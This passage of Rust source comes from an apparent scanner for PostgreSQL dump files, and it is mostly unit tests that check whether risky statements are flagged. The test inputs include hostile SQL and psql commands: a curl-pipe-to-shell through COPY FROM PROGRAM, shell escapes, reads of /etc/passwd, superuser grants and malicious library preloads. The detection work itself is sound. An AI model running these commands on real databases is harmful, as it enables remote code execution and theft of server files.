            crate::rules::rule_id!("dangerous-setting"),
            Critical,
            format!("{what} {} loads code or runs commands in later sessions", s.name),
        ));
    } else if s.name == "search_path" {
        out.push((
            crate::rules::rule_id!("search-path-setting"),
            Low,
            format!("{what} search_path changes name resolution for later sessions"),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn restrict_versions() {
        assert!(writes_restrict("15.20 (Debian 15.20-0+deb12u1)"));
        assert!(!writes_restrict("15.13"));
        assert!(!writes_restrict("15beta2"));
        assert!(writes_restrict("18.0"));
        assert!(!writes_restrict("18beta1") && !writes_restrict("18beta2"));
        assert!(writes_restrict("18beta3") && writes_restrict("18rc1") && writes_restrict("19devel"));
        assert!(!writes_restrict("12.11"));
    }

    #[test]
    fn contrib_libraries() {
        for l in [
            "$libdir/btree_gist",
            "$libdir/_int",
            "$libdir/postgis-2.5",
            "$libdir/uuid-ossp.so",
        ] {
            assert!(contrib_library(l), "{l}");
        }
        for l in [
            "$libdir/libpgosm",
            "/srv/www/db/functions/libpgosm.so",
            "$libdir/test_parser",
            "btree_gist",
            "",
        ] {
            assert!(!contrib_library(l), "{l}");
        }
    }

    #[test]
    fn meta_commands() {
        assert_eq!(meta("\\! id > /tmp/owned", true).unwrap().1, Critical);
        assert_eq!(meta("\\o | /bin/sh", false).unwrap().0, "meta-pipe");
        assert!(meta("\\restrict abc", false).is_none());
        assert!(meta("\\connect pagila", false).is_none());
        assert_eq!(
            meta("\\unrestrict abc `id`", false).unwrap().0,
            "meta-restrict-tampered"
        );
        assert_eq!(meta("\\set x `id`", false).unwrap().0, "meta-backquote");
        // psql's own settings and output are a hand edit's sign only; anything else unknown
        // (`\\q` ends a restore half way) is more.
        assert_eq!(meta("\\echo hi", false).unwrap().1, Low);
        assert_eq!(meta("\\set ON_ERROR_STOP on", false).unwrap().1, Low);
        assert_eq!(meta("\\echo `id`", false).unwrap().0, "meta-backquote");
        assert_eq!(meta("\\q", false).unwrap().1, Medium);
    }

    fn judge(sql: &str) -> Vec<Risk> {
        let n = crate::sql::first_statement(sql);
        statement(&n, sql, &mut Context::default(), 1, 0)
    }

    #[test]
    fn pg_dump_18_statistics_are_pg_dumps_own() {
        let risks = |sql: &str| judge(sql).into_iter().map(|r| r.0).collect::<Vec<_>>();
        let genuine = "SELECT * FROM pg_catalog.pg_restore_relation_stats(\n\t'version', '180006'::integer,\n\t'schemaname', 'public',\n\t'relname', 'actor',\n\t'relpages', '2'::integer,\n\t'reltuples', '200'::real\n);";
        assert!(risks(genuine).is_empty());
        let attr = "SELECT * FROM pg_catalog.pg_restore_attribute_stats(\n\t'version', '180006'::integer,\n\t'schemaname', 'public',\n\t'relname', 'actor',\n\t'attname', 'actor_id',\n\t'inherited', 'f'::boolean,\n\t'null_frac', '0'::real,\n\t'most_common_vals', '{1,2}'::text\n);";
        assert!(risks(attr).is_empty());
        assert!(
            risks("UPDATE pg_catalog.pg_database SET datistemplate = false WHERE datname = 'template1';").is_empty()
        );
        assert!(!risks("UPDATE pg_catalog.pg_database SET datistemplate = false WHERE true;").is_empty());
        assert!(!risks("UPDATE pg_catalog.pg_database SET datistemplate = true WHERE datname = 'prod';").is_empty());
        // A cast to a type the dump could define runs its code: not pg_dump's shape.
        assert!(!risks("SELECT * FROM pg_catalog.pg_restore_relation_stats('relname', 'a'::public.evil);").is_empty());
        assert!(!risks("UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'x';").is_empty());
        for forged in [
            "SELECT * FROM pg_catalog.pg_restore_relation_stats('relname', (SELECT pg_read_file('/etc/passwd')));",
            "SELECT * FROM pg_catalog.pg_restore_relation_stats('relname', 'a') WHERE pg_sleep(1) IS NULL;",
            "SELECT *, now() FROM pg_catalog.pg_restore_relation_stats('relname', 'a');",
            "SELECT * FROM pg_restore_relation_stats('relname', lower('a'));",
            "SELECT * FROM public.pg_restore_relation_stats('relname', 'a');",
        ] {
            assert!(!risks(forged).is_empty(), "{forged}");
        }
    }

    #[test]
    fn statements() {
        assert_eq!(
            judge("COPY public.language FROM PROGRAM 'curl -s http://x/p | sh';")[0].0,
            "copy-program"
        );
        assert_eq!(judge("ALTER SYSTEM SET shared_preload_libraries = 'x';")[0].1, Critical);
        assert_eq!(
            judge("SELECT pg_catalog.lo_import('/etc/passwd');")[0].0,
            "server-file-access"
        );
        assert!(judge("SELECT pg_catalog.setval('public.s', 1, true);").is_empty());
        assert!(judge("SELECT pg_catalog.set_config('search_path', '', false);").is_empty());
        assert_eq!(judge("CREATE ROLE maint WITH SUPERUSER LOGIN;")[0].1, High);
        assert_eq!(judge("GRANT pg_execute_server_program TO PUBLIC;")[0].1, Critical);
        assert_eq!(judge("DO $$ BEGIN NULL; END $$;")[0].0, "do-block");
        assert_eq!(
            judge("CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ import os $$;")[0].0,
            "untrusted-language"
        );
        assert_eq!(
            judge("CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/usr/lib/x.so', 'f';")[0].1,
            Medium
        );
        assert_eq!(
            judge("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN 1; END $$;")[0]
                .1,
            Low
        );
        assert_eq!(
            judge("ALTER ROLE app SET session_preload_libraries = 'evil';")[0].1,
            Critical
        );
        assert_eq!(judge("UPDATE t SET a = 1;")[0].0, "unexpected-dml");
    }
}
